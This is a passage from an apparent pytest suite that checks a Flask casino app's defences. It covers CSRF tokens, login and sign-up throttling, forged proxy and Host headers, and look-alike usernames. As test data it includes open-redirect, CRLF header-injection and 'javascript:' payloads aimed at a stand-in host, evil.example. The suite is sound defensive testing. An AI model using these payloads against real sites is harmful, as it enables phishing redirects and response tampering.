        if rule.rule.startswith("/api/") == api and rule.endpoint != "static"
        for method in sorted((rule.methods or set()) - {"GET", "HEAD", "OPTIONS"})
    ]


def sample_url(rule: Any, target: int) -> str:
    args = {name: "casino_war" if name == "name" else target for name in rule.arguments}
    return str(rule.build(args, append_unknown=False)[1])


def test_every_form_route_refuses_a_request_without_its_csrf_token(app: Flask) -> None:
    target = add_user(app, "target")
    operator = client_as(app, add_user(app, "olga", "operator"))
    anonymous = client_as(app, None)
    before = audit_size(app)
    routes = changing_rules(app, api=False)
    assert len(routes) >= 15
    for rule, method in routes:
        url = sample_url(rule, target)
        for who, client in (("operator", operator), ("anonymous", anonymous)):
            for data in ({}, {"csrf_token": "forged"}):
                response = client.open(url, method=method, data=data)
                assert response.status_code == 400, f"{who} {method} {url} {data}"
                assert "security token" in response.get_data(as_text=True)
    assert audit_size(app) == before  # nothing happened
    assert operator.get("/operator/audit").status_code == 200  # and nobody was logged out


def test_every_post_form_in_the_templates_carries_the_csrf_field() -> None:
    forms = 0
    for path in sorted((ROOT / "sota_casino" / "templates").rglob("*.html")):
        for form in re.findall(r"<form\b.*?</form>", path.read_text(), re.S):
            if re.search(r'method="post"', form, re.I):
                forms += 1
                assert "{{ csrf_field() }}" in form, f"{path.name}: {form[:80]}"
    assert forms >= 15


def test_a_cookie_alone_authorizes_no_api_call_that_changes_anything(app: Flask) -> None:
    target = add_user(app, "target")
    operator = client_as(app, add_user(app, "olga", "operator"))
    before = audit_size(app)
    public = {"api.register", "api.token"}  # they read no cookie: the body is the credential
    routes = [(rule, method) for rule, method in changing_rules(app, api=True)]
    assert len(routes) >= 10
    for rule, method in routes:
        if rule.endpoint in public:
            continue
        url = sample_url(rule, target)
        for headers in ({}, {"X-CSRF-Token": "forged"}):
            response = operator.open(url, method=method, json={}, headers=headers)
            assert response.status_code == 401, f"{method} {url} {headers}"
            assert response.get_json()["error"]["code"] == "unauthorized"
    assert audit_size(app) == before
    with_token = operator.post(
        "/api/v1/operator/audit/checkpoints", json={}, headers={"X-CSRF-Token": CSRF}
    )
    assert with_token.status_code in (200, 201)  # the same cookie with the page's token works


def test_a_cookie_alone_never_authorizes_an_api_post(player: FlaskClient) -> None:
    response = player.post("/api/v1/casino-war/rounds", json={"bet": 500})
    assert response.status_code == 401
    assert "X-CSRF-Token" in response.get_json()["error"]["message"]
    me = player.get("/api/v1/me").get_json()
    assert me["balances"]["chips"] == 100_000  # nothing moved


def test_browser_scripts_may_post_with_the_cookie_and_the_csrf_header(player: FlaskClient) -> None:
    headers = {"X-CSRF-Token": csrf_token(player)}
    response = player.post("/api/v1/casino-war/rounds", json={"bet": 500}, headers=headers)
    assert response.status_code == 201
    wrong = player.post(
        "/api/v1/casino-war/rounds", json={"bet": 500}, headers={"X-CSRF-Token": "nope"}
    )
    assert wrong.status_code == 401


def test_a_bad_authorization_header_is_401(client: FlaskClient) -> None:
    for header in ("Basic abc", "Bearer", "Bearer not-a-token", "token"):
        response = client.get("/api/v1/me", headers={"Authorization": header})
        assert response.status_code == 401, header
        assert response.headers["WWW-Authenticate"] == "Bearer"


# --- login throttling ---------------------------------------------------------------------------


def api_login(client: FlaskClient, username: str, password: str, address: str) -> Any:
    return client.post(
        "/api/v1/auth/token",
        json={"username": username, "password": password},
        environ_base={"REMOTE_ADDR": address},
    )


def test_wrong_passwords_for_one_account_are_throttled_from_any_address(make_app: Any) -> None:
    client = make_app(LOGIN_ATTEMPTS=3).test_client()
    api_register(client, "erin")
    for n in range(3):
        assert api_login(client, "erin", "wrong guess", f"198.51.100.{n}").status_code == 401
    refused = api_login(client, "erin", PASSWORD, "198.51.100.99")
    # The window is 300 s, and its oldest failure was made a moment ago.
    _assert_held_off(refused, "too many failed logins; try again in 5\u00a0minutes", 299, 300)
    assert "token" not in refused.get_json()


def test_a_password_typed_as_the_name_is_counted_but_never_kept(make_app: Any) -> None:
    app = make_app(LOGIN_ATTEMPTS=2)
    client = app.test_client()
    api_register(client, "erin")
    for _ in range(2):
        assert api_login(client, "Erin-S3cret pass", "erin", "192.0.2.1").status_code == 401
    assert api_login(client, "erin-s3cret PASS", "erin", "192.0.2.1").status_code == 429
    with db(app) as session:
        kept = [(row.name_digest, row.address) for row in session.scalars(select(LoginAttempt))]
    assert len(kept) == 2 and all("s3cret" not in str(row).lower() for row in kept)
    assert api_login(client, "erin", PASSWORD, "192.0.2.1").status_code == 200


def test_wrong_passwords_from_one_address_are_throttled_across_accounts(make_app: Any) -> None:
    client = make_app(LOGIN_ATTEMPTS=2).test_client()
    api_register(client, "erin")
    # Per address the limit is four times the per-account one: 8 guesses at 8 names.
    for n in range(8):
        assert api_login(client, f"name{n}", "guess", "192.0.2.1").status_code == 401
    assert api_login(client, "erin", PASSWORD, "192.0.2.1").status_code == 429
    assert api_login(client, "erin", PASSWORD, "192.0.2.2").status_code == 200


def test_the_throttle_is_shared_by_every_worker(make_app: Any) -> None:
    first, second = make_app(LOGIN_ATTEMPTS=3), make_app(LOGIN_ATTEMPTS=3)
    api_register(first.test_client(), "erin")
    for worker in (first, second, first):
        response = api_login(worker.test_client(), "erin", "wrong guess", "192.0.2.1")
        assert response.status_code == 401
    assert api_login(second.test_client(), "erin", PASSWORD, "192.0.2.9").status_code == 429


def test_a_forged_forwarded_for_header_does_not_escape_the_address_throttle(
    make_app: Any,
) -> None:
    client = make_app(LOGIN_ATTEMPTS=1).test_client()
    signed_up = client.post(
        "/api/v1/auth/register",
        json={"username": "erin", "password": PASSWORD},
        environ_base={"REMOTE_ADDR": "198.51.100.7"},  # not known at the sprayer's address
    )
    assert signed_up.status_code == 201
    for n in range(4):
        response = client.post(
            "/api/v1/auth/token",
            json={"username": f"name{n}", "password": "guess"},
            headers={"X-Forwarded-For": f"203.0.113.{n}"},
        )
        assert response.status_code == 401
    response = client.post(
        "/api/v1/auth/token",
        json={"username": "erin", "password": PASSWORD},
        headers={"X-Forwarded-For": "203.0.113.200"},
    )
    assert response.status_code == 429


def test_behind_a_trusted_proxy_the_throttle_counts_the_real_client(make_app: Any) -> None:
    client = make_app(LOGIN_ATTEMPTS=1, TRUSTED_PROXIES=1).test_client()
    api_register(client, "erin")
    for n in range(4):
        response = client.post(
            "/api/v1/auth/token",
            json={"username": f"name{n}", "password": "guess"},
            headers={"X-Forwarded-For": "203.0.113.50"},
        )
        assert response.status_code == 401
    blocked = client.post(
        "/api/v1/auth/token",
        json={"username": "erin", "password": PASSWORD},
        headers={"X-Forwarded-For": "203.0.113.50"},
    )
    other = client.post(
        "/api/v1/auth/token",
        json={"username": "erin", "password": PASSWORD},
        headers={"X-Forwarded-For": "203.0.113.51"},
    )
    assert (blocked.status_code, other.status_code) == (429, 200)


def test_behind_a_trusted_proxy_a_client_reaching_the_server_directly_forges_no_address(
    make_app: Any,
) -> None:
    # gunicorn listens on every interface: a client may connect to it past the proxy, and name
    # a new address in each request's X-Forwarded-For.
    app = make_app(LOGIN_ATTEMPTS=1, TRUSTED_PROXIES=1, FORWARDED_ALLOW_IPS=["10.0.0.0/24"])
    api_register(app.test_client(), "erin")
    direct = app.test_client()
    direct.environ_base["REMOTE_ADDR"] = "198.51.100.20"
    statuses = [
        direct.post(
            "/api/v1/auth/token",
            json={"username": f"name{n}", "password": "guess"},
            headers={"X-Forwarded-For": f"203.0.113.{n}"},
        ).status_code
        for n in range(5)
    ]
    assert statuses == [401] * 4 + [429]  # one address's four times LOGIN_ATTEMPTS
    proxy = app.test_client()
    proxy.environ_base["REMOTE_ADDR"] = "10.0.0.2"
    behind = proxy.post(
        "/api/v1/auth/token",
        json={"username": "erin", "password": PASSWORD},
        headers={"X-Forwarded-For": "198.51.100.20, 203.0.113.99"},
    )
    assert behind.status_code == 200  # the proxy's client, not the one held off
    forged = direct.get("/auth/login", headers={"X-Forwarded-Proto": "https"})
    assert "Strict-Transport-Security" not in forged.headers


def test_a_proxy_left_out_of_the_proxies_addresses_is_logged_once(
    make_app: Any, caplog: pytest.LogCaptureFixture
) -> None:
    app = make_app(TRUSTED_PROXIES=1, FORWARDED_ALLOW_IPS=["10.0.0.2"])
    unlisted = app.test_client()
    unlisted.environ_base["REMOTE_ADDR"] = "10.0.0.3"
    for n in range(3):
        unlisted.get("/healthz", headers={"X-Forwarded-For": f"203.0.113.{n}"})
    said = [r.getMessage() for r in caplog.records if "FORWARDED_ALLOW_IPS" in r.getMessage()]
    assert said == [
        "X-Forwarded-For from 10.0.0.3, which is not in FORWARDED_ALLOW_IPS: its client is taken "
        "at that address (logged once)"
    ]


def test_the_proxys_addresses_are_read_from_the_environment_as_gunicorn_reads_them() -> None:
    found = config.from_environment({"FORWARDED_ALLOW_IPS": "10.0.0.2, 192.0.2.0/28,"})
    assert found["FORWARDED_ALLOW_IPS"] == ["10.0.0.2", "192.0.2.0/28"]
    assert config.defaults()["FORWARDED_ALLOW_IPS"] == ["127.0.0.1", "::1"]


def place_failures(app: Flask, ages: dict[str, list[float]], now: datetime) -> None:
    """Make the stored failed logins from each address (``ages``'s keys) as old as given, in
    seconds before ``now``, oldest first as they were made."""
    with db(app) as session, session.begin():
        for address, seconds in ages.items():
            attempts = session.scalars(
                select(LoginAttempt)
                .where(LoginAttempt.address == address)
                .order_by(LoginAttempt.id)
            ).all()
            assert len(attempts) == len(seconds), address
            for attempt, age in zip(attempts, sorted(seconds, reverse=True), strict=True):
                attempt.at = now - timedelta(seconds=age)


def backdate_failures(app: Flask, by: timedelta) -> None:
    with db(app) as session, session.begin():
        for attempt in session.scalars(select(LoginAttempt)):
            attempt.at -= by


def refused_login_wait(client: FlaskClient, address: str, held_off_until: datetime) -> int:
    """Return a throttled login's Retry-After, checked to be the whole seconds until
    ``held_off_until`` (the failure that holds it off leaves the window then), as counted
    when the refusal was made: between the clock before the request and after it."""
    before = datetime.now(UTC)
    refused = api_login(client, "erin", PASSWORD, address)
    after = datetime.now(UTC)
    assert refused.status_code == 429, refused.get_json()
    wait = int(refused.headers["Retry-After"])
    earliest = math.ceil((held_off_until - after).total_seconds())
    latest = math.ceil((held_off_until - before).total_seconds())
    assert max(1, earliest) <= wait <= max(1, latest)
    return wait


def test_a_refused_login_waits_until_the_oldest_counted_failure_leaves_the_window(
    make_app: Any,
) -> None:
    app = make_app(LOGIN_ATTEMPTS=3, LOGIN_WINDOW_SECONDS=60)
    client = app.test_client()
    api_register(client, "erin")
    for _ in range(3):
        assert api_login(client, "erin", "wrong guess", "198.51.100.1").status_code == 401
    now = datetime.now(UTC)
    place_failures(app, {"198.51.100.1": [50, 30, 20]}, now)
    wait = refused_login_wait(client, "198.51.100.1", now + timedelta(seconds=10))
    assert wait <= 10
    # A moment before the oldest failure leaves, the login is still refused; then it is taken.
    backdate_failures(app, timedelta(seconds=wait - 2))
    assert api_login(client, "erin", PASSWORD, "198.51.100.1").status_code == 429
    backdate_failures(app, timedelta(seconds=2))
    assert api_login(client, "erin", PASSWORD, "198.51.100.1").status_code == 200


def test_a_login_refused_by_two_counts_waits_for_the_later_of_them(make_app: Any) -> None:
    """The account's own count from this address frees first; its count from every address
    still holds the login off, so the wait is until that one frees."""
    app = make_app(LOGIN_ATTEMPTS=2, LOGIN_WINDOW_SECONDS=60)
    client = app.test_client()
    api_register(client, "erin")
    app.config["LOGIN_ATTEMPTS"] = 3  # for a moment, to let the third failure be made
    for address in ("198.51.100.1", "198.51.100.1", "198.51.100.2"):
        assert api_login(client, "erin", "wrong guess", address).status_code == 401
    app.config["LOGIN_ATTEMPTS"] = 2
    now = datetime.now(UTC)
    place_failures(app, {"198.51.100.1": [55, 50], "198.51.100.2": [5]}, now)
    # This address's pair frees when its older failure (55 s old) leaves: 5 s; the account's
    # count (its failures 50 s and 5 s old count) frees when the 50 s old one leaves: 10 s.
    wait = refused_login_wait(client, "198.51.100.1", now + timedelta(seconds=10))
    backdate_failures(app, timedelta(seconds=wait))
    assert api_login(client, "erin", PASSWORD, "198.51.100.1").status_code == 200


def test_a_throttled_login_page_says_the_minutes_to_wait(make_app: Any) -> None:
    app = make_app(LOGIN_ATTEMPTS=1, LOGIN_WINDOW_SECONDS=600)
    client = app.test_client()
    api_register(client, "erin")
    assert api_login(client, "erin", "wrong guess", "127.0.0.1").status_code == 401
    place_failures(app, {"127.0.0.1": [150]}, datetime.now(UTC))
    refused = post_form(client, "/auth/login", {"username": "erin", "password": PASSWORD})
    assert refused.status_code == 429
    assert 449 <= int(refused.headers["Retry-After"]) <= 450
    assert "too many failed logins; try again in 8\u00a0minutes" in refused.get_data(as_text=True)


def read(client: FlaskClient, response: Any) -> str:
    """The page a refused password change shows: its form again, with the refusal beside the
    fields (401 a wrong current password, 429 too many guesses)."""
    assert response.status_code in (401, 429), response.status_code
    return str(response.get_data(as_text=True))


def test_a_stolen_session_cannot_guess_the_current_password_without_limit(
    app: Flask, player: FlaskClient
) -> None:
    app.config["LOGIN_ATTEMPTS"] = 3
    new = "a brand new passphrase"
    for _ in range(3):
        guess = post_form(player, "/auth/password", {"old": "a guess!", "new": new, "confirm": new})
        assert "current password is wrong" in read(player, guess)
    right = post_form(player, "/auth/password", {"old": PASSWORD, "new": new, "confirm": new})
    assert "too many failed attempts" in read(player, right)
    # The password did not change, and the guesses count against logging in too.
    login = player.post("/api/v1/auth/token", json={"username": "alice", "password": PASSWORD})
    assert login.status_code == 429


def test_password_guesses_are_counted_by_every_worker_together(make_app: Any) -> None:
    """Guesses at the current password sent to two workers in turn (two apps on one database)
    meet one limit, as guesses at logging in do, and a login form on either is held off too."""
    first, second = make_app(LOGIN_ATTEMPTS=3), make_app(LOGIN_ATTEMPTS=3)
    alice = api_register(first.test_client(), "alice")["id"]
    browsers = [client_as(first, alice), client_as(second, alice)]
    new = "a brand new passphrase"
    guess = {"csrf_token": CSRF, "old": "a guess!", "new": new, "confirm": new}
    for n in range(3):
        browser = browsers[n % 2]
        refused = browser.post("/auth/password", data=guess)
        assert "current password is wrong" in read(browser, refused)
    right = browsers[1].post("/auth/password", data={**guess, "old": PASSWORD})
    assert "too many failed attempts" in read(browsers[1], right)
    login = first.test_client().post(
        "/api/v1/auth/token", json={"username": "alice", "password": PASSWORD}
    )
    assert login.status_code == 429
    assert browsers[0].get("/lobby").status_code == 200  # the password did not change


# --- sign-up throttling -------------------------------------------------------------------------


def signup_from(client: FlaskClient, username: str, address: str, **body: Any) -> Any:
    return client.post(
        "/api/v1/auth/register",
        json={"username": username, "password": PASSWORD, **body},
        environ_base={"REMOTE_ADDR": address},
    )


def user_exists(app: Flask, username: str) -> bool:
    with db(app) as session:
        return session.scalar(select(User.id).where(User.username == username)) is not None


def backdate_signups(app: Flask, by: timedelta) -> None:
    with db(app) as session, session.begin():
        for signup in session.scalars(select(Signup)):
            signup.at -= by


def test_an_address_opens_only_so_many_accounts_per_window_in_any_worker(make_app: Any) -> None:
    first, second = make_app(SIGNUPS_PER_ADDRESS=2), make_app(SIGNUPS_PER_ADDRESS=2)
    assert signup_from(first.test_client(), "erin", "192.0.2.1").status_code == 201
    assert signup_from(second.test_client(), "frank", "192.0.2.1").status_code == 201
    refused = signup_from(first.test_client(), "grace", "192.0.2.1")
    _assert_held_off(
        refused, "too many new accounts from this address; try again in 60\u00a0minutes", 3590, 3600
    )
    assert not user_exists(first, "grace")
    # Another address is not held back.
    assert signup_from(second.test_client(), "grace", "192.0.2.2").status_code == 201


def test_the_wait_is_until_the_oldest_sign_up_leaves_the_window(make_app: Any) -> None:
    app = make_app(SIGNUPS_PER_ADDRESS=1)
    assert signup_from(app.test_client(), "erin", "192.0.2.1").status_code == 201
    backdate_signups(app, timedelta(minutes=45))
    refused = signup_from(app.test_client(), "frank", "192.0.2.1")
    assert refused.status_code == 429
    assert 890 <= int(refused.headers["Retry-After"]) <= 900
    assert "try again in 15\u00a0minutes" in refused.get_json()["error"]["message"]
    backdate_signups(app, timedelta(minutes=15))
    assert signup_from(app.test_client(), "frank", "192.0.2.1").status_code == 201


def test_refused_sign_ups_do_not_count(make_app: Any) -> None:
    app = make_app(SIGNUPS_PER_ADDRESS=1)
    client = app.test_client()
    assert signup_from(client, "erin", "192.0.2.1", password="short").status_code == 422
    assert signup_from(client, "erin", "192.0.2.9").status_code == 201
    assert signup_from(client, "ERIN", "192.0.2.1").status_code == 409  # the name is taken
    assert signup_from(client, "frank", "192.0.2.1").status_code == 201


def test_names_tried_at_sign_up_are_throttled_as_failed_logins(make_app: Any) -> None:
    # Each sign-up refused for a taken name tells the sender an account has it, as a login
    # would; so such refusals count against the name and the address as failed logins do.
    app = make_app(LOGIN_ATTEMPTS=2)
    client = app.test_client()
    for name in ("erin", "frank", "grace"):
        assert signup_from(client, name, "192.0.2.9").status_code == 201
    assert [signup_from(client, "erin", "192.0.2.1").status_code for _ in range(3)] == [
        409,
        409,
        429,
    ]
    # Per address four times as many: 8 names found taken, wherever they were sent from.
    for name in ("frank", "frank", "grace", "grace"):
        assert signup_from(client, name, "192.0.2.1").status_code == 409
    assert api_login(client, "nobody", "guess", "192.0.2.1").status_code == 401
    assert api_login(client, "nobody2", "guess", "192.0.2.1").status_code == 401
    refused = signup_from(client, "heidi", "192.0.2.1")
    _assert_held_off(
        refused, "too many failed logins or taken names; try again in 5\u00a0minutes", 299, 300
    )
    assert not user_exists(app, "heidi")
    assert api_login(client, "erin", PASSWORD, "192.0.2.1").status_code == 429
    # Another address is not held back, and a free name there counts for nothing.
    assert signup_from(client, "heidi", "192.0.2.2").status_code == 201
    with db(app) as session:
        tried_from = [row.address for row in session.scalars(select(LoginAttempt))]
    assert sorted(set(tried_from)) == ["192.0.2.1"] and len(tried_from) == 8


def test_a_sign_up_refused_by_a_throttle_or_a_taken_name_hashes_no_password(
    make_app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Hashing a password costs tens of milliseconds and 19 MiB: a refusal must come first, or
    # refused sign-ups sent without end would spend the server's CPU at no cost to the sender.
    app = make_app(SIGNUPS_PER_ADDRESS=1, LOGIN_ATTEMPTS=1)
    client = app.test_client()
    assert signup_from(client, "erin", "192.0.2.1").status_code == 201
    hashed: list[str] = []

    class CountingHasher(PasswordHasher):
        def hash(self, password: str | bytes, *, salt: bytes | None = None) -> str:
            hashed.append(str(password))
            return super().hash(password, salt=salt)

    monkeypatch.setattr(accounts, "HASHER", CountingHasher(time_cost=1, memory_cost=64))
    assert signup_from(client, "frank", "192.0.2.1").status_code == 429  # sign-ups full
    assert signup_from(client, "erin", "192.0.2.2").status_code == 409  # the name is taken
    assert signup_from(client, "erin", "192.0.2.2").status_code == 429  # names tried full
    assert hashed == []
    assert signup_from(client, "frank", "192.0.2.3").status_code == 201
    assert hashed == [PASSWORD]


def test_the_addresses_of_one_ipv6_network_share_the_throttles(make_app: Any) -> None:
    # Whoever holds one IPv6 address commonly holds its whole /64 (2^64 addresses), and may
    # send each request from another of them.
    app = make_app(SIGNUPS_PER_ADDRESS=2, LOGIN_ATTEMPTS=1)
    client = app.test_client()
    assert signup_from(client, "erin", "2001:db8:1:2::1").status_code == 201
    assert signup_from(client, "frank", "2001:db8:1:2::2").status_code == 201
    assert signup_from(client, "grace", "2001:db8:1:2:ffff::3").status_code == 429
    assert signup_from(client, "grace", "2001:db8:1:3::1").status_code == 201  # another network
    for n in range(4):  # four times LOGIN_ATTEMPTS per address
        assert api_login(client, f"name{n}", "guess", f"2001:db8:9:9::{n}").status_code == 401
    assert api_login(client, "erin", PASSWORD, "2001:db8:9:9:1::ff").status_code == 429
    # An IPv4 address written as IPv6 is that IPv4 address.
    for n in range(4):
        assert api_login(client, f"other{n}", "guess", "192.0.2.7").status_code == 401
    assert api_login(client, "erin", PASSWORD, "::ffff:192.0.2.7").status_code == 429
    # The owner's known network is known at any of its addresses.
    for _ in range(2):
        api_login(client, "erin", "wrong guess", "2001:db8:5:5::1")
    assert api_login(client, "erin", PASSWORD, "2001:db8:1:2::99").status_code == 200
    with db(app) as session:
        kept = {row.address for row in session.scalars(select(LoginAttempt))}
    assert kept == {"2001:db8:9:9::/64", "192.0.2.7", "2001:db8:5:5::/64"}


def test_the_networks_of_one_ipv6_site_share_a_larger_throttle(make_app: Any) -> None:
    """A site (a company, a provider's customer) commonly holds a whole /48: 65,536 networks of
    /64, each counted as one address. Sending each request from another of them multiplied
    the per-address allowances by 65,536; the site is counted too, as 16 addresses' worth."""
    app = make_app(SIGNUPS_PER_ADDRESS=1, LOGIN_ATTEMPTS=1)
    client = app.test_client()
    for n in range(16):
        assert signup_from(client, f"user{n}", f"2001:db8:7:{n}::1").status_code == 201
    assert signup_from(client, "late", "2001:db8:7:ff::1").status_code == 429
    assert signup_from(client, "late", "2001:db8:8:ff::1").status_code == 201  # another site
    assert signup_from(client, "erin", "2001:db8:9:1::5").status_code == 201
    for n in range(64):  # four times LOGIN_ATTEMPTS per address, for 16 addresses
        assert api_login(client, f"name{n}", "guess", f"2001:db8:9:{n}::1").status_code == 401
    assert api_login(client, "late", PASSWORD, "2001:db8:9:ff::1").status_code == 429
    assert api_login(client, "late", PASSWORD, "2001:db8:a:ff::1").status_code == 200
    # The owner known at a network of the site is not held off there.
    assert api_login(client, "erin", PASSWORD, "2001:db8:9:1::6").status_code == 200


def test_an_address_in_brackets_or_with_a_port_shares_the_throttles(make_app: Any) -> None:
    # Some proxies write the client's IPv6 address in brackets, or either kind with its port:
    # it is the same address, whichever way it is written.
    app = make_app(SIGNUPS_PER_ADDRESS=2, LOGIN_ATTEMPTS=1, TRUSTED_PROXIES=1)
    client = app.test_client()

    def signup_via_proxy(username: str, address: str) -> int:
        return client.post(
            "/api/v1/auth/register",
            json={"username": username, "password": PASSWORD},
            headers={"X-Forwarded-For": address},
        ).status_code

    def login_via_proxy(username: str, password: str, address: str) -> int:
        return client.post(
            "/api/v1/auth/token",
            json={"username": username, "password": password},
            headers={"X-Forwarded-For": address},
        ).status_code

    assert signup_via_proxy("erin", "[2001:db8:1:2::1]") == 201
    assert signup_via_proxy("frank", "[2001:db8:1:2::2]:443") == 201
    assert signup_via_proxy("grace", "2001:db8:1:2:ffff::3") == 429
    for n in range(4):  # four times LOGIN_ATTEMPTS per address
        assert login_via_proxy(f"name{n}", "guess", f"192.0.2.7:{5550 + n}") == 401
    assert login_via_proxy("erin", PASSWORD, "192.0.2.7") == 429
    assert login_via_proxy("erin", PASSWORD, "[::ffff:192.0.2.7]:80") == 429
    assert login_via_proxy("frank", PASSWORD, "192.0.2.8:5555") == 200  # another address
    with db(app) as session:
        signed_up = {row.address for row in session.scalars(select(Signup))}
        failed = {row.address for row in session.scalars(select(LoginAttempt))}
    assert (signed_up, failed) == ({"2001:db8:1:2::/64"}, {"192.0.2.7"})


def test_throttle_records_that_left_their_window_are_forgotten(make_app: Any) -> None:
    app = make_app(SIGNUPS_PER_ADDRESS=3)
    client = app.test_client()
    for name in ("erin", "frank"):
        assert signup_from(client, name, "192.0.2.1").status_code == 201
    for _ in range(2):
        assert api_login(client, "erin", "wrong guess", "192.0.2.1").status_code == 401
    with db(app) as session, session.begin():
        for row in [*session.scalars(select(Signup)), *session.scalars(select(LoginAttempt))]:
            row.at -= timedelta(hours=2)
    assert signup_from(client, "grace", "192.0.2.1").status_code == 201
    assert api_login(client, "erin", "wrong guess", "192.0.2.1").status_code == 401
    with db(app) as session:
        assert session.scalar(select(func.count()).select_from(Signup)) == 1
        assert session.scalar(select(func.count()).select_from(LoginAttempt)) == 1


def test_the_sign_up_page_says_why_and_opens_no_account(make_app: Any) -> None:
    app = make_app(SIGNUPS_PER_ADDRESS=1)
    register_page(app.test_client(), "erin")
    browser = app.test_client()
    refused = post_form(
        browser,
        "/auth/register",
        {"username": "frank", "password": PASSWORD, "confirm": PASSWORD},
    )
    assert refused.status_code == 429
    assert 3590 <= int(refused.headers["Retry-After"]) <= 3600
    page = refused.get_data(as_text=True)
    assert "too many new accounts from this address; try again in 60\u00a0minutes" in page
    assert 'value="frank"' in page  # the form keeps the name
    assert not user_exists(app, "frank")
    assert browser.get("/lobby").status_code == 303  # not logged in


# --- host names ---------------------------------------------------------------------------------

FORGED_HOST = "evil.example"


def test_trusted_hosts_is_read_from_the_environment_as_a_list_of_names() -> None:
    found = config.from_environment({"TRUSTED_HOSTS": "casino.example, www.casino.example,"})
    assert found["TRUSTED_HOSTS"] == ["casino.example", "www.casino.example"]
    assert "TRUSTED_HOSTS" not in config.from_environment({})
    assert config.defaults()["TRUSTED_HOSTS"] is None  # any host, as Flask's default


def test_with_trusted_hosts_a_forged_host_is_a_400_that_does_not_repeat_it(make_app: Any) -> None:
    """The fairness page writes its witness command from the request's host: a forged Host
    must not be answered with a page that tells the reader to watch the forger's server."""
    settings = config.from_environment({"TRUSTED_HOSTS": "casino.example,www.casino.example"})
    app = make_app(**settings)
    forged = app.test_client().get("/fairness", headers={"Host": FORGED_HOST})
    assert forged.status_code == 400
    assert FORGED_HOST not in forged.get_data(as_text=True)
    assert "does not answer on the address" in forged.get_data(as_text=True)
    finnish = app.test_client().get("/", headers={"Host": FORGED_HOST, "Accept-Language": "fi"})
    assert "Kasino ei vastaa osoitteessa" in finnish.get_data(as_text=True)
    api = app.test_client().get("/api/v1/fairness/public-key", headers={"Host": FORGED_HOST})
    assert api.status_code == 400
    assert api.get_json()["error"]["code"] == "bad_request"
    assert FORGED_HOST not in api.get_data(as_text=True)
    for host in ("casino.example", "www.casino.example:8443"):
        page = app.test_client().get("/fairness", headers={"Host": host})
        assert page.status_code == 200, host
        assert f"monitor http://{host}" in page.get_data(as_text=True)


def test_without_trusted_hosts_any_host_is_answered(app: Flask) -> None:
    page = app.test_client().get("/fairness", headers={"Host": FORGED_HOST})
    assert page.status_code == 200
    assert f"monitor http://{FORGED_HOST}" in page.get_data(as_text=True)


# --- redirects ----------------------------------------------------------------------------------


#: ``next`` targets that lead off the site once a browser has read them (tabs and newlines are
#: dropped, a backslash is a slash), and the lobby is where they must go instead.
FOREIGN_TARGETS = (
    "//evil.example/x",
    "///evil.example/x",  # a browser skips every slash of a scheme-relative URL
    "https://evil.example/",
    "/\t/evil.example",
    "/\n/evil.example",
    "/\r\n/evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/%0a/evil.example\nSet-Cookie: x=1",
    "javascript:alert(1)",
    " /history",
    "history",
)


@pytest.mark.parametrize(
    "look_alike",
    ["\u0430lice", "\uff41lice", "alice\u200b", "al\u0456ce", "ALICE", "Alice"],
    ids=["cyrillic-a", "fullwidth-a", "zero-width-space", "ukrainian-i", "upper", "capital"],
)
def test_no_name_can_pass_for_a_players_with_a_unicode_look_alike_or_another_case(
    app: Flask, client: FlaskClient, look_alike: str
) -> None:
    """Names are ASCII letters, digits, '.', '_' and '-', unique ignoring case: no second
    account can show a name that reads as another's."""
    api_register(client, "alice")
    answer = client.post(
        "/api/v1/auth/register", json={"username": look_alike, "password": "look-alike-passphrase"}
    )
    assert answer.status_code in (409, 422), answer.get_json()
    page = post_form(
        client,
        "/auth/register",
        {"username": look_alike, "password": PASSWORD, "confirm": PASSWORD},
    )
    assert page.status_code in (303, 409, 422) and "/lobby" not in page.headers.get("Location", "")
    session = db(app)
    try:
        assert session.scalar(select(func.count(User.id))) == 1
    finally:
        session.close()


#: Letters whose Unicode lower case or case fold is an ASCII letter: U+212A KELVIN SIGN lowers to
#: "k", U+017F LATIN SMALL LETTER LONG S folds to "s", U+0130 LATIN CAPITAL LETTER I WITH DOT
#: ABOVE lowers to "i" and a combining dot.
LOOK_ALIKE_LOGINS = pytest.mark.parametrize(
    ("account", "look_alike"),
    [("kim", "\u212aim"), ("sam", "\u017fam"), ("ida", "\u0130da")],
    ids=["kelvin-sign", "long-s", "dotted-capital-i"],
)


@LOOK_ALIKE_LOGINS
def test_a_look_alike_of_a_players_name_logs_in_nowhere_and_is_answered_as_a_strangers(
    client: FlaskClient, account: str, look_alike: str
) -> None:
    api_register(client, account)
    stranger = api_login(client, "nobody", PASSWORD, "192.0.2.1")
    answer = api_login(client, look_alike, PASSWORD, "192.0.2.2")
    assert answer.status_code == stranger.status_code == 401
    assert answer.get_json() == stranger.get_json()
    assert "token" not in answer.get_json()
    form = client.application.test_client()
    unknown = post_form(form, "/auth/login", {"username": "nobody", "password": PASSWORD})
    page = post_form(form, "/auth/login", {"username": look_alike, "password": PASSWORD})
    # The page shows the name back as typed; apart from it, both answers read the same.
    assert page.status_code == unknown.status_code == 401
    assert page.get_data(as_text=True).replace(look_alike, "nobody") == unknown.get_data(
        as_text=True
    )
    assert is_logged_out(form)


@LOOK_ALIKE_LOGINS
def test_failures_under_a_look_alike_name_are_its_own_and_hold_off_no_player(
    make_app: Any, account: str, look_alike: str
) -> None:
    client = make_app(LOGIN_ATTEMPTS=2).test_client()
    api_register(client, account)
    for n in range(2):
        assert api_login(client, look_alike, "wrong guess", f"198.51.100.{n}").status_code == 401
    assert api_login(client, look_alike, PASSWORD, "198.51.100.50").status_code == 429
    assert api_login(client, account, PASSWORD, "198.51.100.99").status_code == 200


@LOOK_ALIKE_LOGINS
def test_the_consoles_player_search_finds_no_player_by_a_look_alike(
    app: Flask, account: str, look_alike: str
) -> None:
    add_user(app, account)
    olga = client_as(app, add_user(app, "olga", "operator"))
    for query in (look_alike, look_alike[:1]):
        found = olga.get("/operator/players/export", query_string={"format": "jsonl", "q": query})
        assert found.status_code == 200 and found.get_data(as_text=True) == "", query
    found = olga.get("/operator/players/export", query_string={"format": "jsonl", "q": account})
    assert [json.loads(line)["username"] for line in found.get_data(as_text=True).splitlines()] == [
        account
    ]


def test_login_redirects_only_to_this_site(client: FlaskClient) -> None:
    register_page(client, "alice")
    post_form(client, "/auth/logout")
    cases = [("/history", "/history"), ("/history?game=sota", "/history?game=sota")]
    for target, expected in cases + [(target, "/lobby") for target in FOREIGN_TARGETS]:
        response = post_form(
